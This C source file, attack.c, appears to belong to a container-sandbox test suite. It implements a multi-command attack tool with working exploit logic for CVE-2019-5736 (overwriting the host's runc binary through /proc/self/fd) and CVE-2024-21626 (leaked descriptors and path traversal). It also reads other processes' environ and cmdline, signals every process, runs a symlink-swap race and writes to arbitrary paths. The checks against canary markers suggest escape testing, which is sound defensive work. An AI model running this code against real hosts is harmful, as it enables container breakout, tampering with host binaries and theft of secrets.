/* attack.c - see attack.h: the host's program, descriptors, processes, paths.  Inside a cluster. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MARK "HVMM-CANARY" /* what the tests' own copies of our programs end with */

double now(void)
{
        struct timespec t;

        (void) clock_gettime(CLOCK_MONOTONIC, &t);
        return (double) t.tv_sec + (double) t.tv_nsec / 1e9;
}

static bool say_fd(int fd, const char *path)
{
        char buf[4096];
        ssize_t n = read(fd, buf, sizeof buf);

        if (n <= 0)
                return false;
        for (ssize_t i = 0; i < n; i++)
                if (buf[i] == '\0')
                        buf[i] = ' ';
        printf("read %s: %.*s\n", path, (int) n, buf);
        return true;
}

bool say_file(const char *path)
{
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        bool ok = fd >= 0 && say_fd(fd, path);

        if (fd >= 0)
                (void) close(fd);
        return ok;
}

/* ---- CVE-2019-5736: the program of whoever joins us */

/* The end of an open program when it is a canary; then its content is spoiled, too, if it can be. */
static bool rob(int fd, const char *path)
{
        char tail[65] = "", self[64];
        off_t size = lseek(fd, 0, SEEK_END);
        int w;

        if (size < 64 || pread(fd, tail, 64, size - 64) != 64 || !strstr(tail, MARK))
                return false;
        printf("program %s: %s\n", path, strstr(tail, MARK));
        (void) snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
        for (int i = 0; i < 50; i++) {
                w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
                if (w >= 0) {
                        printf("spoiled %s: %zd\n", path, write(w, "PWNED", 5));
                        (void) close(w);
                        break;
                }
                if (errno != ETXTBSY)
                        break;
                (void) usleep(1000);
        }
        return true;
}

static void rob_process(const char *pid)
{
        static const char *const links[] = { "exe", "cwd", "root", "fd/3", "fd/4", "fd/5" };
        char path[300];

        for (size_t i = 0; i < NELEM(links); i++) {
                int fd;

                (void) snprintf(path, sizeof path, "/proc/%.32s/%s", pid, links[i]);
                fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
                if (fd >= 0) {
                        (void) rob(fd, path);
                        (void) close(fd);
                }
        }
}

/* Look at every process that comes, as fast as we can, until the file STOP appears. */
static int thief(int argc, char **argv)
{
        double end = now() + 100;
        long looked = 0;

        (void) argc;
        puts("looking");
        (void) fflush(stdout);
        while (now() < end && access(argv[0], F_OK) < 0) {
                DIR *d = opendir("/proc");
                struct dirent *n;

                while (d && (n = readdir(d))) {
                        if (n->d_name[0] < '0' || n->d_name[0] > '9' || atoi(n->d_name) == getpid())
                                continue;
                        rob_process(n->d_name);
                        looked++;
                }
                if (d)
                        (void) closedir(d);
        }
        printf("looked at %ld\n", looked);
        return 0;
}

/* ---- CVE-2024-21626: what was left open, and where we stand */

static int leak(int argc, char **argv)
{
        static const char up[] = "../../../../../../../../../../../..";
        char path[PATH_MAX], to[PATH_MAX];
        long found = 0;

        (void) argc;
        for (int fd = 0; fd < 1024; fd++) {
                ssize_t n;
                int at;

                (void) snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
                n = readlink(path, to, sizeof to - 1);
                if (n < 0)
                        continue;
                to[n] = '\0';
                if (fd > 2) {
                        printf("fd %d -> %s\n", fd, to);
                        found++;
                }
                (void) snprintf(path, sizeof path, "%s%s", up, argv[0]);
                at = openat(fd, path, O_RDONLY | O_CLOEXEC);
                if (at < 0)
                        at = openat(fd, argv[0] + 1, O_RDONLY | O_CLOEXEC);
                if (at >= 0) {
                        (void) say_fd(at, path);
                        (void) close(at);
                }
        }
        (void) snprintf(path, sizeof path, "%s%s", up, argv[0]);
        (void) say_file(path);
        if (syscall(SYS_getcwd, to, sizeof to) > 0)
                printf("cwd %s\n", to);
        printf("open %ld\n", found);
        return 0;
}

/* ---- other processes */

#define PIDS                                                                                       \
        40000 /* all of a young namespace; those of the host's that a test means come as operands */

static bool look_at(int pid, const char *text)
{
        static const char *const files[] = { "cmdline", "environ", "comm", "mountinfo", "maps" };
        static char buf[65536];
        char path[64];
        struct stat st;

        (void) snprintf(path, sizeof path, "/proc/%d", pid);
        if (stat(path, &st) < 0 || pid == getpid())
                return false;
        for (size_t i = 0; i < NELEM(files); i++) {
                ssize_t n;
                int fd;

                (void) snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
                fd = open(path, O_RDONLY | O_CLOEXEC);
                n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
                if (n > 0 && memmem(buf, (size_t) n, text, strlen(text)))
                        printf("found %s\n", path);
                if (fd >= 0)
                        (void) close(fd);
        }
        return true;
}

/* A + in TEXT is left out, so that the searcher's own command line is no find. */
static int look(int argc, char **argv)
{
        char *plus = strchr(argv[0], '+');
        long seen = 0;

        if (plus)
                memmove(plus, plus + 1, strlen(plus));

        for (int pid = 1; pid < PIDS; pid++)
                seen += look_at(pid, argv[0]);
        for (int i = 1; i < argc; i++)
                seen += look_at(atoi(argv[i]), argv[0]);
        printf("saw %ld\n", seen);
        return 0;
}

static long shoot(int pid)
{
        int fd = (int) syscall(SYS_pidfd_open, pid, 0);
        long sent = kill(pid, SIGUSR1) == 0;

        sent += syscall(SYS_tkill, pid, SIGUSR1) == 0;
        if (fd >= 0) {
                sent += syscall(SYS_pidfd_send_signal, fd, SIGUSR1, NULL, 0) == 0;
                (void) close(fd);
        }
        return sent;
}

/* SIGUSR1 to whoever can be named, in every way, and to their groups. */
static int signals(int argc, char **argv)
{
        long sent = 0;

        (void) signal(SIGUSR1, SIG_IGN);
        for (int pid = 2; pid < PIDS; pid++)
                if (pid != getpid())
                        sent += shoot(pid);
        for (int i = 0; i < argc; i++)
                sent += shoot(atoi(argv[i])) + (kill(-atoi(argv[i]), SIGUSR1) == 0);
        (void) kill(-1, SIGUSR1);
        printf("sent %ld\n", sent);
        return 0;
}

static int abstract(int argc, char **argv)
{
        static const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET };
        struct sockaddr_un a = { .sun_family = AF_UNIX };
        socklen_t len = (socklen_t) (offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argv[0]));

        (void) argc;
        (void) strncpy(a.sun_path + 1, argv[0], sizeof a.sun_path - 2);
        for (size_t i = 0; i < NELEM(types); i++) {
                int fd = socket(AF_UNIX, types[i] | SOCK_CLOEXEC, 0);

                if (fd >= 0 && connect(fd, (void *) &a, len) == 0)
                        printf("connected %zu: %zd\n", i, send(fd, "stolen", 6, MSG_NOSIGNAL));
        }
        puts("tried");
        return 0;
}

/* ---- paths */

/* DIR is a directory, a link to TARGET, a directory, ...  until the file STOP appears. */
static int swap(int argc, char **argv)
{
        char link[PATH_MAX];
        double end = now() + 100;
        long n = 0;

        (void) argc;
        (void) snprintf(link, sizeof link, "%s.link", argv[0]);
        (void) mkdir(argv[0], 0777);
        if (symlink(argv[1], link) < 0)
                return 1;
        puts("swapping");
        (void) fflush(stdout);
        while (now() < end && (n % 64 || access(argv[2], F_OK) < 0))
                n += syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, link, 2) == 0;
        printf("swapped %ld\n", n);
        return 0;
}

/* TEXT into each PATH; says which took it. */
static int spoil(int argc, char **argv)
{
        for (int i = 1; i < argc; i++) {
                int fd = open(argv[i], O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
                ssize_t n = fd < 0 ? -1 : write(fd, argv[0], strlen(argv[0]));

                printf("%s %s: %s\n", n >= 0 ? "WROTE" : "refused", argv[i],
                       n >= 0 ? "" : strerror(errno));
                if (fd >= 0)
                        (void) close(fd);
        }
        return 0;
}

static int show(int argc, char **argv)
{
        for (int i = 0; i < argc; i++)
                if (!say_file(argv[i]))
                        printf("refused %s: %s\n", argv[i], strerror(errno));
        return 0;
}

/* ---- counted by user: large pipes until no more are given; "holding" and wait for stdin's end */

static int hoard(int argc, char **argv)
{
        int n = 0, p[2];
        char c;

        (void) argc, (void) argv;
        while (n < 400 && pipe2(p, O_CLOEXEC) == 0 && fcntl(p[0], F_SETPIPE_SZ, 1 << 20) > 0)
                n++;
        printf("holding %d: %s\n", n, strerror(errno));
        (void) fflush(stdout);
        while (read(STDIN_FILENO, &c, 1) > 0)
                ;
        return 0;
}

/* A child for whoever is above us, which is a process of the host's. */
static int adopt(int argc, char **argv)
{
        long pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
        char c;

        (void) argc, (void) argv;
        if (pid == 0)
                _exit((int) usleep(2000000));
        printf("adopted %ld: %s\n", pid, pid < 0 ? strerror(errno) : "");
        (void) fflush(stdout);
        while (read(STDIN_FILENO, &c, 1) > 0)
                ;
        return 0;
}

static const struct verb verbs[] = {
        { "thief", "STOP", 1, thief },
        { "leak", "PATH", 1, leak },
        { "look", "TEXT [PID...]", 1, look },
        { "signals", "[PID...]", 0, signals },
        { "abstract", "NAME", 1, abstract },
        { "swap", "DIR TARGET STOP", 3, swap },
        { "spoil", "TEXT PATH...", 2, spoil },
        { "show", "PATH...", 1, show },
        { "hoard", "", 0, hoard },
        { "adopt", "", 0, adopt },
        { "syscalls", "", 0, syscalls },
        { "surface", "DIR", 1, surface },
        { "setcap", "PATH HEX", 2, setcap },
        { "grow", "", 0, grow },
        { "debug", "", 0, debug },
        { "trace", "PROGRAM ARGUMENT...", 1, trace },
        { "ports", "", 0, ports },
        { "rewrite", "FILE DIR", 2, rewrite },
        { "forge", "FROM TO PORT TEXT", 4, forge },
        { "tell", "TO PORT TEXT", 3, tell },
        { "packets", "PORT", 1, packets },
        { "scan", "FIRST COUNT PORT...", 3, scan },
};

int main(int argc, char **argv)
{
        for (size_t i = 0; argc > 1 && i < NELEM(verbs); i++)
                if (strcmp(argv[1], verbs[i].name) == 0 && argc - 2 >= verbs[i].min)
                        return verbs[i].run(argc - 2, argv + 2);
        for (size_t i = 0; i < NELEM(verbs); i++)
                fprintf(stderr, "attack %s %s\n", verbs[i].name, verbs[i].args);
        return 2;
}
